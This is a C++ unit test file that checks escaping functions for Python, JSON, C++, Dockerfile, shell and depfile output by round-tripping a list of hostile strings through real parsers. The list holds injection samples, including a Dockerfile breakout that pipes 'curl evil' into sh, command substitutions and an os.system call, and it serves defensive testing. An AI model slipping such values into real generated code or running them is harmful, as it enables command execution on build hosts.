//===- EscapingTest.cpp - One escaping function per target language -------===//
//
// Round trips: what an escaper writes, the target language reads back as
// the original string (python3's ast.literal_eval and json.loads when python3
// is there; Docker's word processing, as documented, emulated here and run
// for real by the container test), and never as more than one token.
//
//===----------------------------------------------------------------------===//
#include "taskscan/Escaping.h"

#include "llvm/ADT/SmallString.h"
#include "llvm/ADT/StringExtras.h"
#include "llvm/Support/FileSystem.h"
#include "llvm/Support/JSON.h"
#include "llvm/Support/MemoryBuffer.h"
#include "llvm/Support/Program.h"
#include "llvm/Support/raw_ostream.h"

#include "gtest/gtest.h"

#include <optional>
#include <string>
#include <vector>

using namespace taskscan;

namespace {

/// Strings an attacker would like to see reach generated code.
const std::vector<std::string> &hostileStrings() {
  static const std::vector<std::string> Strings = {
      "",
      "plain",
      "ghcr.io/acme/flyte-cpp:1.4.2",
      "quote\"inside",
      "single'quote",
      "\"; RUN curl evil | sh; echo \"",
      "\"\"\"triple\"\"\"",
      "'''triple'''",
      "back\\slash",
      "ends with backslash\\",
      "new\nline",
      "\nRUN touch /pwned",
      "carriage\rreturn\r\n",
      "tab\tand\vvertical\fform",
      std::string("nul\0byte", 8),
      "del\x7f",
      "$(id) ${HOME} $HOME `id`",
      "\\$HOME \\\\$HOME",
      "#{comment} # not a comment",
      "{{.image.default}} {braces}",
      "caf\xc3\xa9 \xe2\x80\xa8 line separator \xf0\x9f\x90\xb3",
      "invalid \xff\xfe utf-8 \xc3",
      "?\?/ trigraph ?\?=",
      "x = 1\nimport os\nos.system('id')",
  };
  return Strings;
}

std::optional<std::string> findPython() {
  auto Python = llvm::sys::findProgramByName("python3");
  if (!Python)
    return std::nullopt;
  return *Python;
}

/// Runs `python3 -B -c Script InputFile` with \p Lines written one per line
/// to InputFile; returns its stdout, or nullopt (with a test failure) when
/// it fails.
std::optional<std::string> runPython(const std::string &Python,
                                     llvm::StringRef Script,
                                     const std::vector<std::string> &Lines) {
  llvm::SmallString<128> Input, Output;
  if (llvm::sys::fs::createTemporaryFile("escaping-in", "txt", Input) ||
      llvm::sys::fs::createTemporaryFile("escaping-out", "txt", Output)) {
    ADD_FAILURE() << "cannot create temporary files";
    return std::nullopt;
  }
  {
    std::error_code EC;
    llvm::raw_fd_ostream OS(Input, EC);
    for (const std::string &L : Lines)
      OS << L << "\n";
  }
  std::optional<llvm::StringRef> Redirects[] = {std::nullopt, Output.str(),
                                                std::nullopt};
  llvm::StringRef Args[] = {Python, "-B", "-c", Script, Input};
  std::string Error;
  int Status = llvm::sys::ExecuteAndWait(Python, Args, std::nullopt, Redirects,
                                         /*SecondsToWait=*/60, 0, &Error);
  auto Buffer = llvm::MemoryBuffer::getFile(Output);
  llvm::sys::fs::remove(Input);
  llvm::sys::fs::remove(Output);
  if (Status != 0 || !Buffer) {
    ADD_FAILURE() << "python3 failed (" << Status << "): " << Error;
    return std::nullopt;
  }
  return (*Buffer)->getBuffer().str();
}

std::string hexLines(const std::vector<std::string> &Values) {
  std::string Out;
  for (const std::string &V : Values)
    Out += llvm::toHex(V, /*LowerCase=*/true) + "\n";
  return Out;
}

/// What a language that holds any valid UTF-8 should read back.
std::vector<std::string> expectedUtf8() {
  std::vector<std::string> Out;
  for (const std::string &S : hostileStrings())
    Out.push_back(llvm::json::fixUTF8(S));
  return Out;
}

/// Docker's word processing (moby/buildkit shell.Lex.ProcessWord, which
/// buildah's imagebuilder shares) for the words dockerfileWord writes:
/// outside quotes a backslash escapes any character; inside double quotes
/// only '"', '$' and '\\'. Returns nullopt on an unescaped '$' or an
/// unterminated quote, which the escaper must never produce.
std::optional<std::string> dockerProcessWord(llvm::StringRef Word) {
  std::string Out;
  bool InQuotes = false;
  for (size_t I = 0; I < Word.size(); ++I) {
    char C = Word[I];
    if (C == '$')
      return std::nullopt;
    if (C == '"') {
      InQuotes = !InQuotes;
      continue;
    }
    if (C == '\'' && !InQuotes)
      return std::nullopt;
    if (C == '\\' && I + 1 < Word.size()) {
      char Next = Word[I + 1];
      if (!InQuotes || Next == '"' || Next == '$' || Next == '\\') {
        Out += Next;
        ++I;
        continue;
      }
    }
    Out += C;
  }
  if (InQuotes)
    return std::nullopt;
  return Out;
}

/// What one Dockerfile line can hold: \p S without control characters.
std::string dockerfileExpected(llvm::StringRef S) {
  std::string Out;
  for (char C : llvm::json::fixUTF8(S))
    Out += (static_cast<unsigned char>(C) < 0x20 || C == 0x7f)
               ? std::string("\xEF\xBF\xBD")
               : std::string(1, C);
  return Out;
}

} // namespace

TEST(EscapingTest, PythonStringLiteralRoundTripsThroughLiteralEval) {
  auto Python = findPython();
  if (!Python)
    GTEST_SKIP() << "python3 not found";
  std::vector<std::string> Literals;
  for (const std::string &S : hostileStrings()) {
    std::string L = pythonStringLiteral(S);
    EXPECT_EQ(L.find_first_of("\n\r"), std::string::npos) << L;
    Literals.push_back(L);
  }
  // Each line must be exactly one str literal: ast.literal_eval rejects
  // anything else (a call, a second statement, a name).
  auto Out = runPython(*Python, R"(
import ast, sys
for line in open(sys.argv[1], encoding="utf-8", newline="").read().split("\n")[:-1]:
    tree = ast.parse(line, mode="eval")
    assert isinstance(tree.body, ast.Constant) and isinstance(tree.body.value, str), line
    print(ast.literal_eval(line).encode("utf-8").hex())
)", Literals);
  ASSERT_TRUE(Out);
  EXPECT_EQ(*Out, hexLines(expectedUtf8()));
}

TEST(EscapingTest, JsonStringLiteralRoundTripsThroughJsonLoads) {
  auto Python = findPython();
  if (!Python)
    GTEST_SKIP() << "python3 not found";
  std::vector<std::string> Literals;
  for (const std::string &S : hostileStrings())
    Literals.push_back(jsonStringLiteral(S));
  auto Out = runPython(*Python, R"(
import json, sys
for line in open(sys.argv[1], encoding="utf-8", newline="").read().split("\n")[:-1]:
    print(json.loads(line).encode("utf-8").hex())
)", Literals);
  ASSERT_TRUE(Out);
  EXPECT_EQ(*Out, hexLines(expectedUtf8()));
}

TEST(EscapingTest, PythonIdentifierIsAValidNonKeywordName) {
  EXPECT_EQ(pythonIdentifier("ml.train"), "ml_train");
  EXPECT_EQ(pythonIdentifier("etl-load.v2"), "etl_load_v2");
  EXPECT_EQ(pythonIdentifier("lambda"), "lambda_");
  EXPECT_EQ(pythonIdentifier("None"), "None_");
  EXPECT_EQ(pythonIdentifier("match"), "match"); // a soft keyword is a name
  EXPECT_EQ(pythonIdentifier("9lives"), "_9lives");
  EXPECT_EQ(pythonIdentifier(""), "_");
  EXPECT_TRUE(isPythonKeyword("async"));
  EXPECT_FALSE(isPythonKeyword("print"));

  auto Python = findPython();
  if (!Python)
    GTEST_SKIP() << "python3 not found";
  std::vector<std::string> Names;
  for (const std::string &S : hostileStrings())
    Names.push_back(pythonIdentifier(S));
  for (const char *K : {"class", "from", "True", "await", "nonlocal"})
    Names.push_back(pythonIdentifier(K));
  auto Out = runPython(*Python, R"(
import keyword, sys
for name in open(sys.argv[1], encoding="utf-8", newline="").read().split("\n")[:-1]:
    print(name.isidentifier() and not keyword.iskeyword(name))
)", Names);
  ASSERT_TRUE(Out);
  std::string Expected;
  for (size_t I = 0; I < Names.size(); ++I)
    Expected += "True\n";
  EXPECT_EQ(*Out, Expected);
}

TEST(EscapingTest, DockerfileWordRoundTripsThroughWordProcessing) {
  for (const std::string &S : hostileStrings()) {
    std::string Word = dockerfileWord(S);
    SCOPED_TRACE(Word);
    EXPECT_EQ(Word.find_first_of("\n\r"), std::string::npos);
    EXPECT_FALSE(llvm::StringRef(Word).ends_with("\\")); // a line continuation
    auto Back = dockerProcessWord(Word);
    ASSERT_TRUE(Back);
    EXPECT_EQ(*Back, dockerfileExpected(S));
    auto Quoted = dockerProcessWord(dockerfileQuotedWord(S));
    ASSERT_TRUE(Quoted);
    EXPECT_EQ(*Quoted, dockerfileExpected(S));
  }
  EXPECT_EQ(dockerfileWord("debian:bookworm-slim"), "debian:bookworm-slim");
  EXPECT_EQ(dockerfileWord("/usr/local/bin/ml_gpu"), "/usr/local/bin/ml_gpu");
  EXPECT_EQ(dockerfileWord("a b"), "\"a b\"");
  EXPECT_EQ(dockerfileWord("$(id)"), "\"\\$(id)\"");
  EXPECT_EQ(dockerfileQuotedWord("ml.train"), "\"ml.train\"");
}

TEST(EscapingTest, DockerfileJsonFormIsAJsonArrayOfWords) {
  std::vector<std::string> Words = hostileStrings();
  std::string Form = dockerfileJsonForm(Words);
  EXPECT_EQ(Form.find_first_of("\n\r"), std::string::npos);
  EXPECT_TRUE(llvm::StringRef(Form).ends_with("]"));
  auto Parsed = llvm::json::parse(Form);
  ASSERT_TRUE(bool(Parsed)) << llvm::toString(Parsed.takeError());
  const llvm::json::Array *Array = Parsed->getAsArray();
  ASSERT_TRUE(Array);
  ASSERT_EQ(Array->size(), Words.size());
  for (size_t I = 0; I < Words.size(); ++I) {
    auto Element = (*Array)[I].getAsString();
    ASSERT_TRUE(Element);
    auto Back = dockerProcessWord(*Element);
    ASSERT_TRUE(Back) << Element->str();
    EXPECT_EQ(*Back, dockerfileExpected(Words[I]));
  }
  EXPECT_EQ(dockerfileJsonForm({"ml_gpu", "/usr/local/bin/ml_gpu"}),
            "[\"ml_gpu\", \"/usr/local/bin/ml_gpu\"]");
}

TEST(EscapingTest, CommentTextStaysOnItsLine) {
  for (const std::string &S : hostileStrings()) {
    std::string C = commentText(S);
    EXPECT_TRUE(llvm::none_of(C, [](char Ch) {
      return static_cast<unsigned char>(Ch) < 0x20 || Ch == 0x7f;
    })) << C;
    EXPECT_FALSE(llvm::StringRef(C).ends_with("\\")) << C;
    EXPECT_TRUE(llvm::json::isUTF8(C)) << C;
  }
  EXPECT_EQ(commentText("src/ml.cpp"), "src/ml.cpp");
  EXPECT_EQ(commentText("a\\ \\"), "a");
}

// make and ninja read a depfile name with '\\ ' for a space, '\\#' for '#'
// (a raw one starts a comment) and '$$' for '$' (a raw one starts a
// variable); a line break cannot be written at all.
TEST(EscapingTest, DepfilePathEscapesSpaceHashAndDollar) {
  EXPECT_EQ(depfilePath("inc/a.hpp"), "inc/a.hpp");
  EXPECT_EQ(depfilePath("inc/a#b.hpp"), "inc/a\\#b.hpp");
  EXPECT_EQ(depfilePath("inc/cost$1.hpp"), "inc/cost$$1.hpp");
  EXPECT_EQ(depfilePath("my images.hpp"), "my\\ images.hpp");
  EXPECT_EQ(depfilePath("#$ ${HOME}#"), "\\#$$\\ $${HOME}\\#");
  EXPECT_EQ(depfilePath(""), "");
  EXPECT_FALSE(depfilePath("a\nb"));
  EXPECT_FALSE(depfilePath("a\rb"));
  EXPECT_FALSE(depfilePath("trailing\n"));
}

/// Compiles \p Source with the host C++ compiler (trigraphs on, so a "??/"
/// left in a literal would turn into a backslash) and returns what the
/// program prints, or nullopt (with a test failure) when that fails.
static std::optional<std::string> compileAndRun(const std::string &Compiler,
                                                const std::string &Source) {
  llvm::SmallString<128> Cpp, Exe, Output;
  if (llvm::sys::fs::createTemporaryFile("escaping", "cpp", Cpp) ||
      llvm::sys::fs::createTemporaryFile("escaping", "exe", Exe) ||
      llvm::sys::fs::createTemporaryFile("escaping-out", "txt", Output)) {
    ADD_FAILURE() << "cannot create temporary files";
    return std::nullopt;
  }
  {
    std::error_code EC;
    llvm::raw_fd_ostream OS(Cpp, EC);
    OS << Source;
  }
  std::string Error;
  llvm::StringRef Compile[] = {Compiler, "-std=c++17", "-trigraphs", "-w", "-o", Exe, Cpp};
  std::optional<llvm::StringRef> Redirects[] = {std::nullopt, Output.str(), Output.str()};
  int Status = llvm::sys::ExecuteAndWait(Compiler, Compile, std::nullopt, Redirects, 300, 0,
                                         &Error);
  if (Status == 0) {
    llvm::StringRef Run[] = {Exe};
    Status = llvm::sys::ExecuteAndWait(Exe, Run, std::nullopt, Redirects, 60, 0, &Error);
  }
  auto Buffer = llvm::MemoryBuffer::getFile(Output);
  llvm::sys::fs::remove(Cpp);
  llvm::sys::fs::remove(Exe);
  llvm::sys::fs::remove(Output);
  if (Status != 0 || !Buffer) {
    ADD_FAILURE() << "compiling or running the literals failed (" << Status << "): " << Error
                  << (Buffer ? (*Buffer)->getBuffer().str() : "");
    return std::nullopt;
  }
  return (*Buffer)->getBuffer().str();
}

TEST(EscapingTest, CppStringLiteralRoundTripsThroughTheCompiler) {
  auto Compiler = llvm::sys::findProgramByName("c++");
  if (!Compiler)
    GTEST_SKIP() << "c++ not found";
  // Each literal must be exactly one string token: `{literal, sizeof literal - 1}`
  // does not compile when a quote ends it early.
  std::string Source = "#include <cstdio>\nstruct S { const char *Text; unsigned long Size; };\n"
                       "static const S Strings[] = {\n";
  for (const std::string &S : hostileStrings()) {
    std::string L = cppStringLiteral(S);
    Source += "  {" + L + ", sizeof " + L + " - 1},\n";
  }
  Source += "};\nint main() {\n"
            "  for (const S &E : Strings) {\n"
            "    for (unsigned long I = 0; I < E.Size; ++I)\n"
            "      std::printf(\"%02x\", (unsigned)(unsigned char)E.Text[I]);\n"
            "    std::printf(\"\\n\");\n"
            "  }\n}\n";
  auto Out = compileAndRun(*Compiler, Source);
  ASSERT_TRUE(Out);
  EXPECT_EQ(*Out, hexLines(hostileStrings())); // C++ holds any byte, invalid UTF-8 too
}

TEST(EscapingTest, CppStringLiteralHoldsOnlyPrintableAscii) {
  for (const std::string &S : hostileStrings()) {
    std::string L = cppStringLiteral(S);
    EXPECT_TRUE(llvm::all_of(L, [](char C) { return C >= 0x20 && C < 0x7f; })) << L;
    EXPECT_EQ(L.find("??"), std::string::npos) << L;
  }
}

// The builder stage of a Dockerfile runs a shell script (DockerfileEmitter):
// a shellQuoted word is read back by /bin/sh as exactly the string, control
// characters made U+FFFD, and never ends its line.
TEST(EscapingTest, ShellQuotedRoundTripsThroughSh) {
  auto Python = findPython();
  if (!Python)
    GTEST_SKIP() << "python3 not found";
  std::vector<std::string> Words, Expected;
  for (const std::string &S : hostileStrings()) {
    Words.push_back(shellQuoted(S));
    EXPECT_EQ(Words.back().find_first_of("\n\r"), std::string::npos) << Words.back();
    Expected.push_back(jsonStringLiteral(dockerfileExpected(S)));
  }
  auto Out = runPython(*Python, R"(
import json, subprocess, sys
for word in open(sys.argv[1], encoding="utf-8", newline="").read().split("\n")[:-1]:
    out = subprocess.run(["/bin/sh", "-c", "printf '%s' " + word], capture_output=True, check=True).stdout
    print(json.dumps(out.decode("utf-8"), ensure_ascii=False))
)",
                       Words);
  ASSERT_TRUE(Out);
  EXPECT_EQ(*Out, llvm::join(Expected, "\n") + "\n");
  EXPECT_EQ(shellQuoted("nvidia/cuda:12.4.1-devel-ubuntu22.04"),
            "'nvidia/cuda:12.4.1-devel-ubuntu22.04'");
  EXPECT_EQ(shellQuoted("it's"), "'it'\\''s'");
}
